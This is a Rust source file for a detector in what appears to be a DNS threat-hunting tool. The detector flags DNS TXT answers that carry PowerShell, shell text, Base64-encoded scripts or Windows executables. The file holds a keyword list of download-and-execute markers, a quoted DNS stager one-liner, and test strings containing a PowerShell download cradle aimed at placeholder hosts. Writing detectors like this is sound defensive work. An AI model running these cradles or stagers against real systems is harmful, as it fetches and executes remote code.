//! # wire_answer
//!
//! **What:** DNS answers seen on the wire whose content is a script or a program: TXT (and
//! other free-form) records holding PowerShell, shell or script text, or Base64 that decodes to
//! such text or to a Windows executable (`MZ`), or long runs of Base64 or hex that carry data.
//!
//! **Why:** stagers fetch their next stage through DNS (`powershell (Resolve-DnsName -Type
//! TXT ...).Strings | iex`, Cobalt Strike's DNS stager, PowerDNS, DNS-delivered payloads).
//! Sysmon logs only `type:16` for a TXT answer; the wire has the content.
//!
//! **ATT&CK:** T1071.004 (Application Layer Protocol: DNS), T1105 (Ingress Tool Transfer),
//! T1059.001 (PowerShell) when the content is PowerShell.
//!
//! **False positives:** domain verification and SPF/DKIM/DMARC records are short and plain and
//! do not match; DKIM public keys are Base64 but decode to binary without script markers and
//! are under `min_encoded` long runs only when keys are very long (`_domainkey` names are
//! skipped).

use base64::Engine as _;
use dnshunt_core::{Detector, Event, Finding, Severity};
use serde::Deserialize;

use crate::detectors::{guid_key, score_of, who};

/// Settings of the `wire_answer` detector.
#[derive(Clone, Debug, Deserialize, serde::Serialize, PartialEq)]
#[serde(deny_unknown_fields, default)]
pub struct WireAnswerConfig {
    /// Characters of one unbroken Base64 or hex run that count as data carried in an answer.
    pub min_encoded: usize,
}

impl Default for WireAnswerConfig {
    fn default() -> Self {
        WireAnswerConfig { min_encoded: 400 }
    }
}

pub struct WireAnswerDetector {
    config: WireAnswerConfig,
}

/// Script markers, lower case.
const SCRIPT: &[&str] = &[
    "powershell",
    "invoke-expression",
    "iex(",
    "iex (",
    "frombase64string",
    "downloadstring",
    "new-object",
    "-encodedcommand",
    "cmd.exe /c",
    "cmd /c",
    "/bin/sh",
    "/bin/bash",
    "wscript.shell",
    "<script",
    "createobject(",
    "system.reflection.assembly",
];

fn script_marker(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    SCRIPT.iter().find(|m| lower.contains(*m)).copied()
}

/// What an answer's text carries, if anything worth a finding: (what, severity, PowerShell).
fn judge(text: &str, min_encoded: usize) -> Option<(String, Severity, bool)> {
    if let Some(m) = script_marker(text) {
        return Some((format!("script text ({m})"), Severity::High, m != "/bin/sh" && m != "/bin/bash"));
    }
    let run = text.split(|c: char| c.is_whitespace() || c == '"').max_by_key(|s| s.len()).unwrap_or("");
    let b64 = run.len() >= 24 && run.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    if b64 {
        let padded = run.trim_end_matches('=');
        let decoded = base64::engine::general_purpose::STANDARD_NO_PAD
            .decode(padded)
            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(padded))
            .ok();
        if let Some(bytes) = decoded {
            if bytes.starts_with(b"MZ") {
                return Some(("Base64 of a Windows executable (MZ)".to_owned(), Severity::Critical, false));
            }
            // PowerShell's -EncodedCommand is UTF-16LE.
            let text8 = String::from_utf8_lossy(&bytes).into_owned();
            let text16: String = bytes.chunks_exact(2).map(|c| char::from(c[0])).collect();
            if let Some(m) = script_marker(&text8).or_else(|| script_marker(&text16)) {
                return Some((format!("Base64 of script text ({m})"), Severity::High, true));
            }
        }
    }
    let hex = run.len() >= min_encoded && run.bytes().all(|b| b.is_ascii_hexdigit());
    if (b64 || hex) && run.len() >= min_encoded {
        let kind = if hex { "hex" } else { "Base64" };
        return Some((format!("{} characters of {kind}", run.len()), Severity::Medium, false));
    }
    None
}

impl WireAnswerDetector {
    pub const NAME: &'static str = "wire_answer";

    pub fn new(config: WireAnswerConfig) -> WireAnswerDetector {
        WireAnswerDetector { config }
    }
}

impl Detector for WireAnswerDetector {
    fn name(&self) -> &'static str {
        Self::NAME
    }

    fn sees_wire(&self) -> bool {
        true
    }

    fn observe(&mut self, event: &Event, out: &mut Vec<Finding>) {
        let Some(w) = event.wire_dns() else { return };
        let name = w.lookup.query.as_str();
        if name.contains("._domainkey.") {
            return;
        }
        // Free-form records: TXT, NULL, SPF, private-use.
        let Some((r, (what, severity, powershell))) = w
            .records
            .iter()
            .filter(|r| matches!(r.rtype.0, 10 | 16 | 99) || r.rtype.0 >= 65280)
            .find_map(|r| judge(&r.data, self.config.min_encoded).map(|j| (r, j)))
        else {
            return;
        };
        let domain = w.lookup.query.base_domain().unwrap_or(name);
        let score = score_of(severity);
        let attack: &[&str] = if powershell { &["T1071.004", "T1105", "T1059.001"] } else { &["T1071.004", "T1105"] };
        let sample: String = r.data.chars().take(60).collect();
        let explanation = format!("{} got a {} answer for {name} carrying {what}: \"{sample}…\"", who(event), r.rtype);
        out.push(
            Finding::from_event(Self::NAME, severity, score, event, &[&guid_key(event), domain], explanation)
                .with_attack(attack)
                .with_detail("record_type", r.rtype.to_string())
                .with_detail("answer_bytes", r.size)
                .with_detail("content", what),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::tests::wire;

    fn run(event: Event) -> Option<(Severity, String)> {
        let mut d = WireAnswerDetector::new(WireAnswerConfig::default());
        let mut out = Vec::new();
        d.observe(&event, &mut out);
        out.first().map(|f| (f.severity, f.details["content"].as_str().unwrap().to_owned()))
    }

    #[test]
    fn fires_on_scripts_and_payloads_in_answers() {
        let ps = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
        assert_eq!(run(wire("stage.evil.example", 16, &[(16, ps, 90)])).unwrap().0, Severity::High);
        let encoded = base64::engine::general_purpose::STANDARD.encode("IEX (New-Object Net.WebClient).DownloadString('http://x')");
        assert!(run(wire("s.evil.example", 16, &[(16, &encoded, 80)])).unwrap().1.starts_with("Base64 of script text"));
        let utf16: Vec<u8> = "Invoke-Expression $x".encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        let enc16 = base64::engine::general_purpose::STANDARD.encode(utf16);
        assert!(run(wire("s.evil.example", 16, &[(16, &enc16, 60)])).is_some());
        let pe = base64::engine::general_purpose::STANDARD.encode(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00");
        assert_eq!(run(wire("p.evil.example", 16, &[(16, &pe, 24)])).unwrap().0, Severity::Critical);
        let long = "a1".repeat(250);
        assert_eq!(run(wire("d.evil.example", 16, &[(16, &long, 500)])).unwrap().1, "500 characters of hex");
    }

    #[test]
    fn quiet_on_ordinary_txt_records() {
        assert_eq!(run(wire("example.com", 16, &[(16, "v=spf1 include:_spf.google.com ~all", 36)])), None);
        assert_eq!(
            run(wire("example.com", 16, &[(16, "google-site-verification=rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ", 68)])),
            None
        );
        assert_eq!(run(wire("s1._domainkey.example.com", 16, &[(16, &"A".repeat(500), 500)])), None);
        // An address answer is never judged.
        assert_eq!(run(wire("powershell.example.com", 1, &[(1, "192.0.2.1", 4)])), None);
    }
}
